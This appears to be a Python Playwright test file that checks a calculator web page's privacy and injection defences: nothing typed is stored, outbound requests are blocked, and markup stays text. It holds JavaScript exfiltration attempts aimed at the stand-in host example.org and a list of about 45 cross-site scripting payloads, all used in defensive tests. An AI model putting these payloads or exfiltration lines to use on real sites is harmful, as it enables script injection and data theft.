"""Private by construction: the page asks nobody but its own site, keeps nothing, and runs no text it is given."""

import json
import re

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from tests.browser.conftest import A_READER
from tests.browser.desk import CALCULATORS, Desk, Open

TYPED = "1654.321"

TEXTS = ":is(input[type=text], textarea):visible"
"""The fields that take any text."""

STORED = """async () => {
    const found = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
    for (const name of await caches.keys()) {
        for (const { url } of await (await caches.open(name)).keys()) found.push(url);
    }
    return found;
}"""


def test_nothing_that_was_typed_is_stored(browser: Browser, site: str) -> None:
    context = browser.new_context(**{**A_READER, "service_workers": "allow"})
    page = context.new_page()
    page.goto(site)
    for tab in page.get_by_role("tab").all():
        tab.click()
        for field in Desk(page).panel.locator(TEXTS).all():
            field.fill(TYPED)
    expect(page.get_by_text("Ready to work offline.")).to_be_visible()
    stored = page.evaluate(STORED)
    assert any("library.zlib" in found for found in stored)
    assert not any("1654" in found for found in stored)
    assert context.cookies() == []
    # Asked on a page that runs no script: this one has put an empty store in the place of the browser's.
    page.goto(f"{site}404.html")
    assert page.evaluate("indexedDB.databases()") == []
    context.close()


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.org/?typed')",
        "navigator.sendBeacon('https://example.org/', 'typed')",
        "document.body.append(Object.assign(new Image(), { src: 'https://example.org/typed.png' }))",
        "(() => { const form = document.createElement('form'); form.action = 'https://example.org/';"
        " document.body.append(form); form.submit(); })()",
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.org/a.js' }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.org/' }))",
        "new WebSocket('wss://example.org/')",
        "document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(//x)' }))",
    ],
)
def test_no_attempt_to_send_data_elsewhere_succeeds(context: BrowserContext, site: str, attempt: str) -> None:
    page = context.new_page()
    page.add_init_script("addEventListener('securitypolicyviolation', () => { globalThis.refused = true })")
    reached: list[str] = []
    context.on("request", lambda request: reached.append(request.url) if "example.org" in request.url else None)
    context.on("requestfailed", lambda request: reached.remove(request.url) if request.url in reached else None)
    page.goto(site)
    page.evaluate(f"() => {{ try {{ {attempt} }} catch {{}} }}")
    assert page.evaluate(REFUSED)
    page.wait_for_load_state("networkidle")
    assert reached == []
    assert page.url.startswith(site)


REFUSED = """async () => {
    for (let tries = 0; tries < 100 && !globalThis.refused; tries++)
        await new Promise((later) => setTimeout(later, 50));
    return globalThis.refused ?? false;
}"""


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus="',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{you}",
    "{0.__class__}",
    "%s%s%s",
    "__proto__",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "\u2028alert(1)\u2028",
]


ACTIVE = "script, img, iframe, object, embed, video, audio, link, meta, style, base, math, marquee, template"


def test_markup_in_any_field_stays_text(desk: Open) -> None:
    game = desk("game")
    page = game.page
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    elements = page.locator(ACTIVE).count()
    for name in CALCULATORS:
        opened = desk(name)
        for attack in ATTACKS:
            opened.ask_for_what_can_be_wrong()
            for field in opened.panel.locator(TEXTS).all():
                field.fill(attack)
            expect(opened.state).to_contain_text("Out of date")
            opened.panel.get_by_role("button", name="Bring the example back").click()
            expect(opened.state).to_have_text("")
    assert page.locator(ACTIVE).count() == elements


@pytest.mark.parametrize("name", ["event", "first-rating"])
def test_markup_in_a_pasted_row_stays_text(desk: Open, name: str) -> None:
    opened = desk(name)
    page = opened.page
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    elements = page.locator(ACTIVE).count()
    # Each as a name, which comes back in the table, and as a line that cannot be read, which comes back in a note.
    opened.set("Games, a line each", "\n".join(f"{line}\n{line}; 1702; 1" for line in ATTACKS))
    expect(opened.answer).to_contain_text("was not read: “<script>")
    shown = opened.panel.locator("[data-table=games] tbody tr")
    expect(shown.filter(has_text="<script>").first).to_contain_text("1702")
    assert page.locator(ACTIVE).count() == elements


def test_markup_in_a_link_stays_text(desk: Open) -> None:
    page = desk("game").page
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    elements, scripts = page.locator(ACTIVE).count(), page.locator("script").count()
    for attack in ATTACKS:
        fragment = f"game?you={attack}"
        page.evaluate(f"location.hash = {json.dumps(fragment)}")
        expect(page).not_to_have_url(re.compile(r"\?"))
        page.evaluate("(name) => { location.hash = name }", attack)
    assert page.locator(ACTIVE).count() == elements
    assert page.locator("script").count() == scripts
